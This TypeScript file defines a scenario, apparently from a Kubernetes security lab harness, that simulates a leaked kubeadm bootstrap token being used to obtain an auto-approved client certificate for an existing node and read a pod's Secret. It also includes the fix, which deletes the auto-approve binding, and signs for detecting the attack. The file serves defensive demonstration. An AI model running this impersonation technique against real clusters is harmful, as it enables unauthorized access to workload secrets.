import { CLIENT_SIGNER } from '../../kubelet/bootstrap';
import { requestNodeCertificate } from './certificate-request';
import { clientOn } from './client-on';
import type { Scenario } from './scenario';
import { readSecret, runPodWithSecret } from './secret-of-pod';

const BINDING = 'kubeadm:node-autoapprove-bootstrap';

export const leakedBootstrapToken: Scenario = {
  id: 'leaked-bootstrap-token',
  title: 'a token for new nodes that takes the name of one that is there',
  story:
    'A bootstrap token is meant for machines that are to join, and stands in provisioning scripts and user data. What it allows is to ask for a kubelet’s client certificate, and kubeadm has such requests approved unasked: the approver (nodeclient) looks at who asks, never at the name that is asked for. So whoever finds the token is node-1 a moment later, and the Node authorizer gives him what the pods of node-1 need.',
  needs:
    'A bootstrap token, out of user data, a provisioning script or a CI log, and a way to the apiserver.',
  evidence:
    'The certificate that the cluster’s signer issued names the existing node, and the genuine apiserver hands out a Secret of its pods, random word included.',
  attack: ['T1552', 'T1078'],
  setting: {
    name: `ClusterRoleBinding ${BINDING}`,
    open: 'as kubeadm creates it: requests of bootstrap tokens are approved unasked',
    fixed: 'deleted: an administrator approves each by hand; renewals go on by themselves',
  },
  notice:
    'A CertificateSigningRequest whose spec.username is system:bootstrap:ID and whose CN is that of a Node that exists already, AutoApproved; the audit log has system:node:node-1 from an address that is not node-1’s.',
  sources: [
    'pkg/controller/certificates/approver/sarapprove.go',
    'kubernetes.io, "kubeadm join": turning off auto-approval of node client certificates',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    if (twin === 'fixed') {
      const path = `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/${BINDING}`;
      await cluster.admin.request('DELETE', path, { signal });
    }
    const secret = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    const token = await cluster.credentials.bootstrapToken();
    await stage.did('admin', 'kubeadm token create', `${token}, which then stands in a provisioning script`);

    await using thief = clientOn(cluster.attackerHost, cluster, { token });
    const node = { node: 'node-1', signerName: CLIENT_SIGNER, usage: 'client auth' } as const;
    const asked = await requestNodeCertificate(stage, thief, node);
    const ask =
      'openssl req -new -subj "/O=system:nodes/CN=system:node:node-1" … | kubectl create -f - --token=…';
    if (asked.kind === 'failed') return stage.refused('attacker', ask, asked.text);
    await stage.did('attacker', ask, `certificatesigningrequest/${asked.name} created`);

    // Requests are judged and signed one after the other: with this one through, the one before it has been seen.
    await using kubelet = clientOn(cluster.nodes['node-2'], cluster, {
      clientCertificate: cluster.pki.kubeletClients['node-2'],
    });
    const renewal = await requestNodeCertificate(stage, kubelet, { ...node, node: 'node-2' });
    if (renewal.kind === 'failed') throw new Error(`node-2 could not ask for a certificate: ${renewal.text}`);
    await renewal.decided();
    await stage.did('node-2', 'the kubelet renews its client certificate', (await renewal.look()).text);

    const { pair, text } = await asked.look();
    const look = `kubectl get csr ${asked.name}`;
    if (pair === null) await stage.refused('attacker', look, text);
    else await stage.gained('attacker', look, text, 'a client certificate of system:node:node-1');

    await using impostor = clientOn(
      cluster.attackerHost,
      cluster,
      pair === null ? { token } : { clientCertificate: pair },
    );
    const read = await readSecret(impostor, secret.name, signal);
    const get = `kubectl get secret ${secret.name} -o jsonpath={.data.password}`;
    if (secret.isIn(read.text))
      await stage.gained('attacker', get, read.text, 'the secret of a pod on node-1');
    else await stage.refused('attacker', get, read.text);
  },
};
